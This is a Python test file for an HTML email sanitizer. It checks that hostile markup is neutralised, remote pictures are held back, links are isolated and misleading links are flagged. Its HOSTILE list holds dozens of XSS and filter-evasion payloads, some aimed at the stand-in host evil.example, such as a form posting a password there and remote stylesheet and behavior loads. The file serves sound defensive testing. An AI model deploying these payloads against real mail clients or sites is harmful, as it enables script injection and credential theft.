"""
Mail's HTML cleaned: nothing acts, nothing is fetched unasked, the layout stays.
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from carrierpost.formats.html import MisleadingLink, clean_html, text_to_html

HOSTILE = [
    "<script>steal()</script>",
    "<scr<script>ipt>steal()</script>",
    '<img src="x" onerror="steal()">',
    '<svg><script>steal()</script><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="steal()">',
    '<a href="javascript:steal()">x</a>',
    '<a href="java\nscript:steal()">x</a>',
    '<a href="\x01javascript:steal()">x</a>',
    '<a href="&#106;avascript&colon;steal()">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">x</a>',
    '<a href="vbscript:steal()">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InN0ZWFsKCkiLz4=">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button formaction="//evil.example">Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;z-index:9">over the page</div>',
    '<div style="width:expression(steal())">x</div>',
    '<div style="background:url(javascript:steal())">x</div>',
    '<div style="color:red;background-image:u\\72l(https://evil.example/x.png)">x</div>',
    "<div style=\"background-image:image-set('https://evil.example/x.png' 1x)\">x</div>",
    '<div style="color:red/*;*/;behavior:url(https://evil.example/x.htc)">x</div>',
    '<img srcset="https://evil.example/x.png 2x" src="//evil.example/y.png">',
    '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
    '<table background="https://evil.example/x.png"><tr><td background="//evil.example/y.png">x</td></tr></table>',
    '<input type="image" src="https://evil.example/x.png">',
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<!--[if gte mso 9]><xml>steal()</xml><![endif]--><p>x</p>",
    '<div id="app" class="toolbar" name="forms">takes the page\'s own names</div>',
    "<body onload=steal()><plaintext><script>steal()",
]
ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:", "sip:", "callto:", "xmpp:")


def _harmless(html: str) -> None:
    """
    Look at what a parser makes of cleaned HTML, rather than at its letters.
    """
    for node in LexborHTMLParser(html).css("*"):
        assert node.tag not in {
            *("script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math"),
            *("meta", "base", "link", "video", "audio", "source", "template", "noscript", "plaintext", "select"),
        }
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in {"id", "class", "name", "srcset", "action", "formaction", "srcdoc", "poster"}
            value = (value or "").lower()
            if name == "href":
                assert value.startswith(ALLOWED_SCHEMES)
            if name in ("src", "background"):
                assert value.startswith(("cid:", "data:image/png", "data:image/gif", "data:image/jpeg"))
            if name == "style":
                for word in ("http", "position", "expression", "javascript", "behavior", "\\", "image-set", "z-index"):
                    assert word not in value


@pytest.mark.parametrize("sample", HOSTILE)
def test_hostile_samples_become_harmless(sample: str) -> None:
    """Nothing that acts, nothing that is fetched, nothing that covers the page is left of them."""
    _harmless(clean_html(sample).html)
    _harmless(clean_html(f"<html><head>{sample}</head><body><p>{sample}</p></body></html>").html)


@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "<p>",
                "</p>",
                "<table><td>",
                "<a href=",
                "'",
                '"',
                ">",
                "<svg>",
                "</style>",
                "<!--",
                "-->",
                "\0",
            ]
        ),
        max_size=8,
    )
)
def test_pieces_of_hostile_samples_become_harmless(pieces: list[str]) -> None:
    """However they are put together."""
    _harmless(clean_html("".join(pieces)).html)


def test_remote_pictures_are_held_back_and_counted() -> None:
    """A picture from the network would tell its sender who reads; each that is held back counts."""
    html = (
        '<img src="https://news.example/pixel.gif" width=1><img src="http://news.example/a.png">'
        '<td><img src="//news.example/b.png"></td>'
        '<table background="https://news.example/c.png"><tr><td style="background:#fff url(\'https://n.example/d.png\')">'
    )
    held = clean_html(html)
    assert held.blocked_pictures == 5
    assert "news.example" not in held.html
    assert "n.example" not in held.html
    assert "background-color:#fff" in held.html


def test_remote_pictures_are_shown_when_asked_for() -> None:
    """They are kept with their addresses, also as backgrounds; an address without a scheme is taken for https."""
    html = '<img src="//news.example/b.png"><div style="background-image:url(https://news.example/d.png)">x</div>'
    shown = clean_html(html, remote_pictures=True)
    assert shown.blocked_pictures == 0
    assert 'src="https://news.example/b.png"' in shown.html
    assert "https://news.example/d.png" in shown.html


def test_pictures_of_the_message_itself_are_kept() -> None:
    """`cid:` addresses are listed, and stay or become what the page asks for; small pictures inside the text stay."""
    html = '<img src="cid:logo@example.org"><img src="CID:gone"><img src="data:image/png;base64,AAAA">'
    assert clean_html(html).content_ids == ("logo@example.org", "gone")
    assert 'src="cid:logo@example.org"' in clean_html(html).html
    shown = clean_html(html, picture_address={"logo@example.org": "/mail/7/logo"}.get).html
    assert 'src="/mail/7/logo"' in shown
    assert "gone" not in shown
    assert 'src="data:image/png;base64,AAAA"' in shown


def test_links_open_apart_and_tell_nothing() -> None:
    """A link opens a page of its own that learns neither whence it was opened nor how to reach back."""
    html = clean_html('<a href="https://shop.example/x?a=1&amp;b=2" target="_top" rel="opener">shop</a>').html
    assert html == (
        '<a href="https://shop.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">shop</a>'
    )


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ('<a href="https://evil.example/login">https://bank.example/login</a>', ("bank.example", "evil.example")),
        ('<a href="https://bank.example.evil.example">www.bank.example</a>', None),
        ('<a href="https://www.bank.example/x">bank.example</a>', None),
        ('<a href="https://click.bank.example/x">www.bank.example</a>', None),
        ('<a href="https://evil.example">Click here</a>', None),
        ('<a href="https://[broken">bank.example</a>', None),
    ],
)
def test_links_that_lead_elsewhere_are_told(html: str, found: tuple[str, str] | None) -> None:
    """A text that is an address of one host over a link to another is told; any other text is not judged."""
    expected = (MisleadingLink(*found),) if found else ()
    if "bank.example.evil" in html:
        expected = (MisleadingLink("www.bank.example", "bank.example.evil.example"),)
    assert clean_html(html).misleading == expected


def test_layout_of_ordinary_mail_stays() -> None:
    """Tables, colours, fonts, lists and quotes are what mail is made of."""
    html = (
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tbody><tr><td style="color:rgb(1, 2, 3);padding:4px">'
        '<font face="Calibri" size="2"><b>Hello</b></font></td></tr></tbody></table>'
        '<blockquote style="margin-left:8px">quoted</blockquote><ol start="3"><li>x</li></ol>'
    )
    assert clean_html(html).html == html


def test_too_long_a_mail_is_cut_and_says_so() -> None:
    """Two million characters are more than anybody reads."""
    assert clean_html("x" * 2_000_001).cut
    assert not clean_html("x" * 2_000_000).cut


def test_deeply_nested_mail_is_cleaned_as_well() -> None:
    """What would keep a parser busy for minutes loses its depth and keeps its text."""
    cleaned = clean_html("<div>" * 390_000 + '<p onclick="steal()">text</p>')
    assert "text" in cleaned.html
    assert "steal" not in cleaned.html
    assert cleaned.html.count("<div") <= 200


def test_plain_text_is_said_in_html() -> None:
    """Marks of HTML are text, lines stay, addresses become links."""
    assert text_to_html("a <b> & c\r\nsee https://x.example/a?b=1&c=2.") == (
        '<div style="white-space:pre-wrap">a &lt;b&gt; &amp; c\nsee <a href="https://x.example/a?b=1&amp;c=2" '
        'target="_blank" rel="noopener noreferrer nofollow">https://x.example/a?b=1&amp;c=2</a>.</div>'
    )
    _harmless(text_to_html('"><script>steal()</script> https://x.example/"onclick="steal()'))
